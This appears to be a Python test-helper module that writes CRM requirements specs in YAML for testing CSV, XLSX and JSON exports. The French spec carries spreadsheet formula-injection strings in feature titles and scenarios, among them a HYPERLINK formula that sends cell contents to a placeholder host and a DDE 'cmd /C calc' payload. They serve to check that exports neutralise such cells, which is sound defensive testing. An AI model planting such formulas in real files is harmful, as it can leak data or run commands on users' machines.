"""Small, complete specs for the matrix-shaped exports (CSV, XLSX, JSON) and the export CLI.

Plain helpers (no conftest: the directory is shared): `write_fr_spec(dir)` and
`write_en_spec(dir)` write a spec that lints without errors; `load(dir)` answers its `Spec`.
The French spec carries the nasty cells the exports must neutralise (formula-like text,
separators, quotes, newlines, control characters).
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from crmreq.loader import load_spec

# Text a spreadsheet would evaluate, with separators and quotes that try to start a new cell.
INJECTION = '=HYPERLINK("http://example.invalid/?leak="&A1;"Cliquez")'
INJECTION_2 = "@SUM(1+1)*cmd|' /C calc'!A0"
INJECTION_3 = "+33 4 72 00 00 00 ; appeler le standard"
INJECTION_4 = "-1+1, avec \"guillemets\""

FR_SPEC = """\
crmreq: 1
project:
  name: CRM Négoce 2027
  company: Dupont & Fils SAS
  lang: fr
  version: "1.0"
  date: 2026-11-15
  confidentiality: Document à diffusion restreinte
  authors: [Marie Dupont]
context:
  history: Négoce de fournitures depuis 1987.
  challenges: [Aucune vision partagée du client]
stakeholders:
  - {id: marie, name: Marie Dupont, role: Directrice commerciale, team: ventes, email: marie@example.fr}
teams:
  - id: ventes
    name: Équipe commerciale
    size: 12
    mobile: true
    current_tools: [Excel]
  - id: adv
    name: Administration des ventes
    size: 4
objectives:
  - id: OBJ-1
    title: Réduire le délai de réponse aux demandes de devis
    pain: Les devis partent en 5 jours
    metric: délai moyen de réponse
    baseline: 5 jours
    target: 2 jours
    deadline: go-live + 6 mois
    owner: marie
    priority: must
systems:
  - {id: crm, name: CRM, kind: crm, hosting: saas, location: FR, interfaces: [api, file]}
  - {id: erp, name: Sage 100, kind: erp, hosting: on_premise, location: FR, interfaces: [api, file]}
objects:
  - {id: comptes, name: Comptes clients, personal_data: true, fields: [raison sociale, SIRET]}
flows:
  - id: FLX-1
    from: erp
    to: crm
    direction: two_way
    objects: [comptes]
    frequency: daily
    mechanism: api
    master: erp
processes:
  - {id: PR-1, name: Gestion des devis, teams: [ventes], priority: must}
features:
  - id: F-001
    module: sales
    title: Créer un devis depuis la fiche compte
    scenario: Le commercial crée un devis en 3 clics depuis la fiche compte.
    teams: [ventes, adv]
    priority: must
    phase: "1"
    objectives: [OBJ-1]
    acceptance: Démonstration sur un compte réel.
  - id: F-002
    module: crm
    title: '<<INJECTION>>'
    scenario: '<<INJECTION_2>>'
    teams: [ventes]
    priority: should
    phase: "1"
    objectives: [OBJ-1]
  - id: F-003
    module: crm
    title: "<<INJECTION_3>>"
    scenario: "<<INJECTION_4>>\\nDeuxième ligne ; point-virgule"
    teams: [adv]
    priority: could
    phase: "2"
    objectives: [OBJ-1]
nfr:
  - id: NFR-1
    category: performance
    statement: La fiche client s'affiche en moins de 2 s.
    metric: {value: 2, unit: s, percentile: p95}
    priority: must
  - {id: NFR-2, category: availability, statement: "Disponibilité de 99,5 % en heures ouvrées.", metric: "99.5 %", priority: must}
  - {id: NFR-3, category: security, statement: Authentification à deux facteurs., metric: "100 %", priority: must}
  - {id: NFR-4, category: backup, statement: Sauvegarde quotidienne restaurable en 4 h., metric: "4 h", priority: must}
  - {id: NFR-5, category: reversibility, statement: Export complet des données en CSV sous 5 jours., metric: "5 jours", priority: must}
  - {id: NFR-6, category: hosting, statement: Données hébergées dans l'Union européenne., metric: "1 région", priority: must}
  - {id: NFR-7, category: scalability, statement: Jusqu'à 50 utilisateurs simultanés., metric: "50 utilisateurs", priority: should}
  - {id: NFR-8, category: support, statement: Support en français sous 4 h ouvrées., metric: "4 h", priority: should}
rgpd:
  data_location: EU
  purposes:
    - {id: PUR-1, name: Gestion de la relation client, legal_basis: contract, objects: [comptes], retention: 3 ans}
  consent: Case à cocher non pré-cochée, preuve horodatée.
  rights: [access, rectification, erasure, portability, objection]
  retention: {prospects: 3 ans après le dernier contact}
  processor_agreement: true
  security_measures: [Chiffrement au repos]
  breach_notification: Notification à la CNIL sous 72 h.
  transfers_outside_eu: false
migration:
  - {id: MIG-1, name: Fichiers Excel, system: erp, format: xlsx, volume: 12000 lignes, objects: [comptes]}
budget:
  currency: EUR
  lines:
    - {category: licences, label: Licences, amount: 24000, recurrence: yearly}
    - {category: setup, label: Paramétrage, min: 15000, max: 25000, recurrence: one_off}
    - {category: integration, label: Connecteur ERP, amount: 8000, recurrence: one_off}
    - {category: migration, label: Reprise, amount: 3000, recurrence: one_off}
    - {category: training, label: Formation, amount: 4000, recurrence: one_off}
    - {category: support, label: Support, amount: 2000, recurrence: yearly}
timeline:
  go_live: 2027-09-01
  phases:
    - {id: PH-1, name: Consultation, duration: 6 semaines, start: 2026-12-01}
    - {id: PH-2, name: Paramétrage, duration: 3 mois}
consultation:
  deliverables: [Licences, Paramétrage]
  documents: [Réponse à la matrice]
  deadline: 2027-01-15
  criteria:
    - {id: C-1, name: Couverture fonctionnelle, weight: 40, eliminatory: false}
    - {id: C-2, name: Prix, weight: 30}
    - {id: C-3, name: Hébergement UE, weight: 30, eliminatory: true}
  demos:
    - {id: D-1, title: Du devis à la commande, steps: [Créer un devis], features: [F-001]}
"""
for _key, _value in (("<<INJECTION>>", INJECTION.replace("'", "''")),
                     ("<<INJECTION_2>>", INJECTION_2.replace("'", "''")),
                     ("<<INJECTION_3>>", INJECTION_3.replace('"', '\\"')),
                     ("<<INJECTION_4>>", INJECTION_4.replace('"', '\\"'))):
    FR_SPEC = FR_SPEC.replace(_key, _value)

EN_SPEC = """\
crmreq: 1
project:
  name: Services CRM
  company: Acme Ltd
  lang: en
  version: "2.1"
  date: 2026-03-01
  confidentiality: Confidential
features:
  - {id: FEAT-1, module: support, title: Log a ticket from an email, scenario: An agent turns an email into a ticket., priority: must}
  - {id: FEAT-2, module: analytics, title: Weekly pipeline report, scenario: The manager receives the report on Monday., priority: should}
nfr:
  - {id: NFR-1, category: performance, statement: A customer record opens in under 2 s., metric: "2 s", priority: must}
rgpd:
  data_location: EU
  rights: [access, erasure]
consultation:
  criteria:
    - {id: CR-1, name: Fit, weight: 60}
    - {id: CR-2, name: Price, weight: 40}
"""


def write_fr_spec(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "crmreq.yaml"
    path.write_text(FR_SPEC, encoding="utf-8")
    return directory


def write_en_spec(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "crmreq.yaml").write_text(EN_SPEC, encoding="utf-8")
    return directory


def write_spec_text(directory: Path, text: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "crmreq.yaml").write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return directory


def load(directory: Path):
    return load_spec(Path(directory)).spec


FEATURE_IDS = ("F-001", "F-002", "F-003")
NFR_IDS = tuple(f"NFR-{i}" for i in range(1, 9))
